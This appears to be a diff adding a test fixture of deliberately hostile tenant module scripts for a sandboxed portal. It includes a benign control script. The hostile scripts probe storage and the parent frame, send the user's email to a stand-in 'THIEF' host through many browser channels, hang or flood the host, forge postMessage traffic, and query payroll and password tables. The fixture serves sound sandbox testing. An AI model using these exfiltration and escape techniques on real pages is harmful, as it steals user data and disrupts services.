@@ -1,0 +1,147 @@
+// Scripts of a tenant that mean harm, or were written badly. Each is a module script, published like any other. `THIEF` is an
+// address that listens: whoever reaches it has carried something away.
+
+/** Tries one thing and writes down what came of it. */
+const attempts = `
+  const found = [];
+  const attempt = async (name, work) => {
+    try {
+      const value = await work();
+      found.push(name + ': ' + (value === undefined || value === null || value === '' ? 'nothing' : 'GOT ' + String(value).slice(0, 80)));
+    } catch (error) {
+      found.push(name + ': refused');
+    }
+  };
+  const tell = () => portal.root.replaceChildren(...found.map((line) => portal.kit.element('p', {}, line)), portal.kit.element('p', {}, 'done'));
+`;
+
+const asModule = (body: string): string => `export default async function start(portal) {${body}}`;
+
+export const hostileScripts: Readonly<Record<string, string>> = {
+  /** Looks for the session, the portal's page, its storage and what the runtime left lying about. */
+  leitor: asModule(`${attempts}
+    await attempt('cookie', () => document.cookie);
+    await attempt('localStorage', () => localStorage.length);
+    await attempt('sessionStorage', () => sessionStorage.length);
+    await attempt('indexedDB', () => new Promise((resolve, reject) => { const open = indexedDB.open('x'); open.onsuccess = () => resolve('opened'); open.onerror = () => reject(new Error('no')); }));
+    await attempt('caches', () => caches.keys().then((keys) => 'keys ' + keys.length));
+    await attempt('parent document', () => parent.document.documentElement.outerHTML);
+    await attempt('parent storage', () => parent.localStorage.getItem('code'));
+    await attempt('parent location', () => parent.location.href);
+    await attempt('top document', () => top.document.cookie);
+    await attempt('frame element', () => window.frameElement);
+    await attempt('opener', () => window.opener);
+    await attempt('nested frame', () => { const inner = document.createElement('iframe'); document.body.append(inner); return inner.contentDocument.cookie + inner.contentWindow.localStorage.length; });
+    await attempt('service worker', () => navigator.serviceWorker.register('/assets/x.js').then(() => 'registered'));
+    await attempt('broadcast', () => new Promise((resolve) => { const channel = new BroadcastChannel('x'); channel.onmessage = () => resolve('heard'); setTimeout(resolve, 100); }));
+    await attempt('code in context', () => /code|token|select /i.test(JSON.stringify(portal.context).replace(/"entities".*?\\]/, '')) ? JSON.stringify(portal.context) : '');
+    await attempt('peer connection', () => typeof RTCPeerConnection === 'undefined' ? '' : 'there');
+    await attempt('window.open', () => window.open('about:blank'));
+    await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'video'));
+    await attempt('place', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('there'), reject)));
+    tell();
+  `),
+
+  /** Carries something away by every door a page has. */
+  ladrao: asModule(`${attempts}
+    const secret = '?segredo=' + encodeURIComponent(portal.context.user.email);
+    const element = (tag, properties) => new Promise((resolve, reject) => {
+      const made = Object.assign(document.createElement(tag), properties);
+      made.onload = () => resolve('loaded');
+      made.onerror = () => reject(new Error('no'));
+      document.body.append(made);
+      setTimeout(() => reject(new Error('late')), 700);
+    });
+    await attempt('fetch', () => fetch('THIEF/fetch' + secret, { mode: 'no-cors' }).then(() => 'sent'));
+    await attempt('fetch own origin', () => fetch(new URL('/api/auth/v1/session/app/hostil/user/session', document.baseURI)).then((r) => r.text()));
+    await attempt('xhr', () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.open('GET', 'THIEF/xhr' + secret); x.onload = () => resolve('sent'); x.onerror = () => reject(new Error('no')); x.send(); }));
+    await attempt('beacon', () => { navigator.sendBeacon('THIEF/beacon' + secret, 'x'); });
+    await attempt('socket', () => new Promise((resolve, reject) => { const s = new WebSocket('THIEF/socket'.replace('http', 'ws')); s.onopen = () => resolve('open'); s.onerror = () => reject(new Error('no')); }));
+    await attempt('events', () => new Promise((resolve, reject) => { const s = new EventSource('THIEF/events'); s.onopen = () => resolve('open'); s.onerror = () => reject(new Error('no')); }));
+    await attempt('image', () => element('img', { src: 'THIEF/image' + secret }));
+    await attempt('script', () => element('script', { src: 'THIEF/script' + secret }));
+    await attempt('style', () => element('link', { rel: 'stylesheet', href: 'THIEF/style' + secret }));
+    await attempt('prefetch', () => element('link', { rel: 'prefetch', href: 'THIEF/prefetch' + secret }));
+    await attempt('video', () => element('video', { src: 'THIEF/video' + secret }));
+    await attempt('object', () => element('object', { data: 'THIEF/object' + secret }));
+    await attempt('iframe', () => { document.body.append(Object.assign(document.createElement('iframe'), { src: 'THIEF/iframe' + secret })); });
+    await attempt('css', () => { document.body.style.backgroundImage = 'url(THIEF/css' + secret + ')'; });
+    await attempt('font', () => new FontFace('x', 'url(THIEF/font' + secret + ')').load().then(() => 'loaded'));
+    await attempt('import', () => import('THIEF/import' + secret).then(() => 'loaded'));
+    await attempt('worker', () => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("THIEF/worker").then(() => postMessage("sent"), () => postMessage(""))']))); w.onmessage = (e) => resolve(e.data); w.onerror = () => reject(new Error('no')); }));
+    await attempt('top navigation', () => { top.location.href = 'THIEF/top' + secret; });
+    await attempt('undeclared query', () => portal.sql.run('folha-de-pagamento'));
+    tell();
+  `),
+
+  /** Never comes back from its first line. */
+  'trava-ao-abrir': 'for (;;) { Math.random(); }',
+
+  /** Works until a button is pressed. */
+  'trava-depois': asModule(`
+    portal.kit.page({ title: 'Módulo' }, portal.kit.button('Travar', () => { for (;;) Math.random(); }));
+  `),
+
+  /** Calls the portal as fast as it can, over its port. */
+  enxurrada: asModule(`
+    portal.kit.page({ title: 'Módulo' });
+    const call = () => { for (let i = 0; i < 500; i += 1) portal.ui.title('x' + i).catch(() => undefined); setTimeout(call); };
+    call();
+  `),
+
+  /** The same over the window, where nobody asked it to speak. */
+  'enxurrada-na-janela': asModule(`
+    portal.kit.page({ title: 'Módulo' });
+    const shout = () => { for (let i = 0; i < 500; i += 1) parent.postMessage({ kind: 'log', level: 'info', text: 'x' }, '*'); setTimeout(shout); };
+    shout();
+  `),
+
+  /** Leaves for another site, and takes the address of the person along. */
+  fujao: asModule(`location.href = 'THIEF/away?segredo=' + encodeURIComponent(portal.context.user.email);`),
+
+  /** The same by a word in its own head. */
+  'fujao-pela-cabeca': asModule(`
+    portal.kit.page({ title: 'Módulo' });
+    document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=THIEF/meta?segredo=1' }));
+  `),
+
+  /** Sends a form, to here and to there. */
+  'fujao-por-formulario': asModule(`
+    portal.kit.page({ title: 'Módulo' });
+    const form = Object.assign(document.createElement('form'), { action: 'THIEF/form', method: 'post' });
+    form.append(Object.assign(document.createElement('input'), { name: 'segredo', value: portal.context.user.email }));
+    document.body.append(form);
+    form.submit();
+  `),
+
+  /** Loads itself again, to begin with a clean slate. */
+  'recarrega-se': asModule(`location.reload();`),
+
+  /** Says it is a new frame, for a second port. */
+  impostor: asModule(`parent.postMessage({ kind: 'ready', version: 1 }, '*');`),
+
+  /** Forges what only the port may carry. */
+  falsario: asModule(`
+    for (const message of [{ kind: 'call', id: 1, method: 'ui.close', request: {} }, { kind: 'started' }, null, 7, 'ready', { kind: 'ready', version: 'x' }, { kind: { toString: 1 } }])
+      parent.postMessage(message, '*');
+    portal.kit.page({ title: 'Ainda aqui' });
+  `),
+
+  'erros-em-serie': asModule(`
+    portal.kit.page({ title: 'Módulo' });
+    setInterval(() => { throw new Error('de novo'); }, 5);
+  `),
+  'erro-ao-abrir': asModule(`throw new Error('não começou');`),
+  'erro-de-sintaxe': 'export default function start(portal) {',
+  'sem-start': 'export const nada = 1;',
+  'importa-de-fora': `import 'THIEF/pacote.js'; export default function start() {}`,
+
+  /** Asks again and again for what is not its own. */
+  bisbilhoteiro: asModule(`
+    portal.kit.page({ title: 'Módulo' });
+    for (const id of ['folha-de-pagamento', 'usuarios', 'senhas']) await portal.sql.run(id).catch(() => undefined);
+  `),
+
+  /** What a good one looks like, in the same tenant: the portal must still open it after any of the others. */
+  honesto: asModule(`portal.kit.page({ title: 'Tudo certo', subtitle: portal.context.user.email });`),
+};
